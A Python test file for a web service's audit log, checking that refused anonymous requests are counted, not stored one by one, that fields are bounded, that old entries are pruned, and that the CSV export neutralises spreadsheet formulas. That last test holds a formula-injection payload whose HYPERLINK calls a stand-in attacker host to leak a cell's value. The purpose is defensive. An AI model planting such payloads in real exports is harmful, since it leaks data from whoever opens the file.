"""The audit log under strangers' requests (issue 8, item 9), over HTTP: refused anonymous requests are
counted per minute, address and reason instead of stored one by one, every field is bounded, old
entries are pruned after the retention, and the CSV export cannot carry a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from gennaker.api.app import create_app
from gennaker.runtime import Runtime, build_runtime
from gennaker.spec.config import Config
from gennaker.web import store
from gennaker.web.tables import audit_log

from .conftest import DEMO, auth_config, register
from .test_login_burst import postgres_url as pg_database
from .test_login_burst import replicas

postgres_url = pg_database  # the fixture: a fresh PostgreSQL database


@pytest.fixture
def env(tmp_path: Path) -> Iterator[tuple[TestClient, Runtime, dict[str, str]]]:
    rt = build_runtime(str(tmp_path / "g.db"), config=auth_config())
    register(rt, DEMO)
    alice = store.create_token(rt.db, "audit", "alice", ["admin"], "test")["token"]
    with TestClient(create_app(rt), base_url="http://127.0.0.1") as client:
        yield client, rt, {"Authorization": f"Bearer {alice}"}
    rt.db.dispose()


def size(rt: Runtime) -> tuple[int, int]:
    """Rows in the audit log, and the characters of their text fields."""
    c = audit_log.c
    chars = func.coalesce(func.sum(func.length(c.path) + func.coalesce(func.length(c.user_agent), 0)), 0)
    with rt.db.read() as conn:
        rows, text = conn.execute(select(func.count(), chars).select_from(audit_log)).one()
    return int(rows), int(text)


def test_refused_anonymous_requests_do_not_grow_the_log(env: Any) -> None:
    client, rt, _ = env
    rows_before, chars_before = size(rt)
    agent = {"User-Agent": "x" * 5000}
    start = time.monotonic()
    for i in range(2000):
        path = f"/api/executions/{i:05d}{'a' * 1500}/cancel"
        assert client.post(path, json={}, headers=agent).status_code == 401
    minutes = int((time.monotonic() - start) // 60) + 2  # the buckets the run can touch
    rows, chars = size(rt)
    assert rows - rows_before <= minutes  # one per (minute, address, reason): all share address and reason
    assert chars - chars_before <= minutes * (512 + 256)
    with rt.db.read() as conn:
        hits = conn.execute(select(func.sum(audit_log.c.hits)).where(audit_log.c.auth == "anonymous")).scalar()
    assert hits == 2000  # counted, not lost


def test_every_field_is_bounded(env: Any) -> None:
    client, rt, alice = env
    r = client.post("/api/executions/" + "b" * 9000 + "/cancel", json={}, headers={**alice, "User-Agent": "y" * 9000})
    assert r.status_code in (404, 422)
    entry = client.get("/api/audit", headers=alice).json()[0]
    assert entry["actor"] == "alice" and entry["hits"] == 1
    assert len(entry["path"]) <= 512 and entry["path"].endswith("…")
    assert len(entry["user_agent"]) <= 256
    store.write_audit(
        rt.db,
        actor="a" * 999,
        auth="token",
        action="x" * 999,
        method="POST",
        path="/p",
        status_code=200,
        client="c" * 999,
        details={"blob": "z" * 100_000},
    )
    entry = client.get("/api/audit", headers=alice).json()[0]
    assert len(entry["actor"]) <= 200 and len(entry["action"]) <= 60 and len(entry["client"]) <= 100
    assert len(str(entry["details"])) <= 2000


def test_old_entries_are_pruned_after_the_retention(env: Any) -> None:
    client, rt, alice = env
    long_ago = time.time() - 91 * 86400
    store.write_audit(
        rt.db, at=long_ago, actor="old", auth="token", action="x", method="POST", path="/old", status_code=200
    )
    assert client.get("/api/audit", params={"actor": "old"}, headers=alice).json()
    client.post("/api/executions/none/cancel", json={}, headers=alice)  # any new entry prunes
    assert client.get("/api/audit", params={"actor": "old"}, headers=alice).json() == []


def test_the_csv_export_neutralises_formulas(env: Any) -> None:
    client, _, alice = env
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    for agent in (formula, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain"):
        client.post("/api/executions/none/cancel", json={}, headers={**alice, "User-Agent": agent})
    exported = client.get("/api/audit", params={"format": "csv"}, headers=alice).text
    agents = [row["user_agent"] for row in csv.DictReader(io.StringIO(exported))]
    assert "'" + formula in agents and formula not in agents
    for bad in ("+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert "'" + bad in agents and bad not in agents
    assert "plain" in agents
    assert not any(a[:1] in ("=", "+", "-", "@", "\t", "\r") for a in agents)


def test_the_retention_is_a_setting(tmp_path: Path) -> None:
    config = auth_config()
    config.server = {"audit_retention": "1h"}
    rt = build_runtime(str(tmp_path / "g.db"), config=config)
    alice = {"Authorization": f"Bearer {store.create_token(rt.db, 'a', 'alice', ['admin'], 'test')['token']}"}
    store.write_audit(
        rt.db, at=time.time() - 7200, actor="old", auth="token", action="x", method="POST", path="/old", status_code=200
    )
    with TestClient(create_app(rt), base_url="http://127.0.0.1") as client:
        client.post("/api/executions/none/cancel", json={}, headers=alice)
        assert client.get("/api/audit", params={"actor": "old"}, headers=alice).json() == []
    rt.db.dispose()


def test_replicas_on_postgresql_count_refusals_in_one_row(postgres_url: str) -> None:
    with replicas(postgres_url) as (a, b):
        start = time.monotonic()
        for i in range(100):
            for server in (a, b):
                r = httpx.post(f"{server.url}/api/executions/{i}{'c' * 1000}/cancel", json={})
                assert r.status_code == 401
        minutes = int((time.monotonic() - start) // 60) + 2
        end = time.monotonic() + 10  # a server writes the entry after it has answered
        while True:
            with a.web.db.read() as conn:
                rows, hits = conn.execute(
                    select(func.count(), func.sum(audit_log.c.hits)).where(audit_log.c.auth == "anonymous")
                ).one()
            if hits == 200 or time.monotonic() > end:
                break
            time.sleep(0.1)
        assert rows <= minutes and hits == 200


def test_without_access_control_refused_forms_are_counted_too(tmp_path: Path) -> None:
    """``--insecure-no-auth``: callers only name themselves, so a flood of refused form posts (no CSRF
    token) is counted like strangers' refusals; an allowed change keeps an entry of its own."""
    rt = build_runtime(str(tmp_path / "g.db"), config=Config(server={"insecure_no_auth": True}))
    register(rt, DEMO)
    with TestClient(create_app(rt), base_url="http://127.0.0.1") as client:
        rows_before, _ = size(rt)
        for i in range(300):
            r = client.post(f"/executions/{i}{'d' * 1000}/cancel", data={}, follow_redirects=False)
            assert r.status_code == 403
        rows, chars = size(rt)
        assert rows - rows_before <= 2 and chars <= 2 * (512 + 256)
        r = client.post("/api/executions/none/cancel", json={}, headers={"X-Gennaker-User": "carol"})
        assert client.get("/api/audit").json()[0]["actor"] == "carol"
    rt.db.dispose()


def test_the_console_shows_how_many_refusals_an_entry_counts(env: Any) -> None:
    client, _, alice = env
    for _ in range(3):
        assert client.post("/api/executions/none/cancel", json={}).status_code == 401
    page = client.get("/audit", headers=alice).text
    assert 'data-testid="audit-hits">&times;3<' in page
